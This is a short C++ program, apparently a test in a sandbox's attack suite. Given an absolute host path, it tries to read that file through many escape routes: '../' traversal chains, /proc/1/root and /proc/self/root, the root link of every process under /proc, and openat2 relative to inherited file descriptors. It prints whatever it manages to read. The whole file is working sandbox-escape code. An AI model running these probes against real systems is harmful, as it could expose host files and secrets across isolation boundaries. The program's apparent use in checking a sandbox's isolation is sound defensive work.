// Reads a file of the host, whose absolute path it was told, by every name that may lead there.
#include "attack.hpp"

#include <dirent.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <sys/syscall.h>

namespace {

void read_out(const std::string& what, int fd) {
  attack::tell(what, fd);
  if (fd < 0) return;
  char bytes[4096];
  for (ssize_t n; (n = ::read(fd, bytes, sizeof bytes)) > 0;)
    (void)!::write(1, bytes, static_cast<std::size_t>(n));
  ::close(fd);
}

void open_and_read(const std::string& path) {
  read_out(path, ::open(path.c_str(), O_RDONLY | O_NONBLOCK | O_NOCTTY));
}

} // namespace

int main(int argc, char** argv) {
  attack::bound_life();
  for (int i = 1; i < argc; ++i) {
    const std::string path = argv[i], name = path.substr(path.rfind('/') + 1);
    open_and_read(path);
    open_and_read("../../../../../../../../../.." + path);
    open_and_read("/box/../.." + path);
    for (const char* way :
         {"/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/self/cwd", "/proc/thread-self/root"}) {
      open_and_read(way + path);
      open_and_read(std::string(way) + "/../../../../../.." + path);
      open_and_read(std::string(way) + "/" + name);
    }
    for (int fd = 0; fd < 64; ++fd) {
      open_how how{};
      const auto below = "../../../../../../../.." + path;
      const long found = ::syscall(SYS_openat2, fd, below.c_str(), &how, sizeof how);
      if (found >= 0 || errno != EBADF) read_out("fd-" + std::to_string(fd), static_cast<int>(found));
    }
    if (DIR* processes = ::opendir("/proc"))
      while (const dirent* entry = ::readdir(processes))
        if (std::atoi(entry->d_name) > 0)
          open_and_read(std::string("/proc/") + entry->d_name + "/root" + path);
  }
}
